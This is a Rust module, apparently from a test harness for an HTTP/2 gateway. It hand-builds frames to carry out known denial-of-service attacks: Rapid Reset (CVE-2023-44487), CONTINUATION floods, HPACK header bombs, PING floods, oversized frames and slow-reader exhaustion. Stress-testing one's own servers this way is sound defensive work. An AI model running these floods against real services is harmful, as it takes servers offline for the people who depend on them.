//! HTTP/2: frames that no client with good intentions sends.

use std::net::SocketAddr;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::{connect_narrow, crowd, write_on};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// RFC 7541 section 6.2.2: a field that isn't remembered. Names and values below 127 bytes.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        bytes.push(u8::try_from(text.len()).expect("a short text"));
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// The head of a GET.
fn head(path: &str) -> Vec<u8> {
    [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", path)]
        .into_iter()
        .flat_map(|(name, value)| literal(name, value))
        .collect()
}

fn begin() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// What comes is read and thrown away, so that it isn't the kernel that stops the flood.
async fn send_and_drain(stream: tokio::net::TcpStream, pieces: impl Iterator<Item = Vec<u8>>) {
    let (mut read, mut write) = stream.into_split();
    let drain = async move {
        let mut buffer = [0; 4096];
        while let Ok(1..) = read.read(&mut buffer).await {}
    };
    let send = async move {
        for piece in pieces {
            if write.write_all(&piece).await.is_err() {
                return;
            }
        }
    };
    tokio::join!(send, drain);
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(crate) async fn rapid_resets(address: SocketAddr, count: usize) -> JoinSet<()> {
    crowd(count, address, |stream, _| async move {
        let head = head("/small");
        let pairs = (0..50_000_u32).map(move |number| {
            let id = number * 2 + 1;
            let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, &head);
            [asked, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
        });
        send_and_drain(stream, std::iter::once(begin()).chain(pairs)).await;
    })
    .await
}

/// A head that goes on and on (VU#421644).
pub(crate) async fn continuations(address: SocketAddr, count: usize) -> JoinSet<()> {
    crowd(count, address, |stream, _| async move {
        let first = [begin(), frame(HEADERS, END_STREAM, 1, &head("/small"))].concat();
        let more: Vec<u8> = (0..50).flat_map(|_| literal("x-flood", &"a".repeat(100))).collect();
        let more = frame(CONTINUATION, 0, 1, &more);
        let more = std::iter::repeat_n(more, 10_000);
        send_and_drain(stream, std::iter::once(first).chain(more)).await;
    })
    .await
}

/// Continuations without a byte in them.
pub(crate) async fn empty_continuations(address: SocketAddr, count: usize) -> JoinSet<()> {
    crowd(count, address, |stream, _| async move {
        let first = [begin(), frame(HEADERS, END_STREAM, 1, &head("/small"))].concat();
        let more = std::iter::repeat_n(frame(CONTINUATION, 0, 1, &[]), 200_000);
        send_and_drain(stream, std::iter::once(first).chain(more)).await;
    })
    .await
}

/// A few bytes that stand for megabytes: one long field in HPACK's table, named again and again.
pub(crate) async fn header_bombs(address: SocketAddr, count: usize) -> JoinSet<()> {
    crowd(count, address, |stream, _| async move {
        // RFC 7541 section 6.2.1: remembered, so that 62 names it. 3000 bytes as an integer of 7 bits.
        let mut block = vec![0x40, 3];
        block.extend(b"x-b");
        block.extend([0x7f, 0xb9, 0x16]);
        block.extend([b'a'; 3000]);
        block.extend([0x80 | 62; 12_000]);
        let bombs = (0..200_u32).map(move |number| {
            let block = [head("/small"), block.clone()].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block)
        });
        send_and_drain(stream, std::iter::once(begin()).chain(bombs)).await;
    })
    .await
}

/// Frames that ask for an answer, whose answers are never read.
pub(crate) async fn pings(address: SocketAddr, count: usize) -> JoinSet<()> {
    let mut crowd = JoinSet::new();
    for _ in 0..count {
        crowd.spawn(async move {
            let Some(mut stream) = connect_narrow(address).await else { return };
            let _ = stream.write_all(&begin()).await;
            let many: Vec<u8> = (0..1000)
                .flat_map(|_| [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat())
                .collect();
            write_on(&mut stream, &many, 100).await;
        });
    }
    crowd
}

/// A frame that is longer than what the gateway takes.
pub(crate) async fn long_frames(address: SocketAddr, count: usize) -> JoinSet<()> {
    crowd(count, address, |stream, _| async move {
        let long = frame(HEADERS, END_STREAM | END_HEADERS, 1, &vec![0; (1 << 24) - 1]);
        send_and_drain(stream, [begin(), long].into_iter()).await;
    })
    .await
}

/// As many big answers as a connection may ask for, of which none is read.
pub(crate) async fn slow_readers(address: SocketAddr, count: usize, streams: u32) -> JoinSet<()> {
    let mut crowd = JoinSet::new();
    for _ in 0..count {
        crowd.spawn(async move {
            let Some(mut stream) = connect_narrow(address).await else { return };
            let asked = (0..streams)
                .map(|n| frame(HEADERS, END_STREAM | END_HEADERS, n * 2 + 1, &head("/big")));
            // As if it could take two gigabytes of each.
            let most = 0x7fff_ffff_u32.to_be_bytes();
            let window = frame(SETTINGS, 0, 0, &[&[0, 4], &most[..]].concat());
            let room = (0x7fff_ffff_u32 - 65_535).to_be_bytes();
            let begin = [PREFACE, &window, &frame(WINDOW_UPDATE, 0, 0, &room)].concat();
            let all: Vec<u8> = std::iter::once(begin).chain(asked).flatten().collect();
            if stream.write_all(&all).await.is_ok() {
                // Until the gateway ends it.
                let mut byte = [0];
                while let Ok(1) = stream.read(&mut byte).await {
                    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
                }
            }
        });
        tokio::task::yield_now().await;
    }
    crowd
}
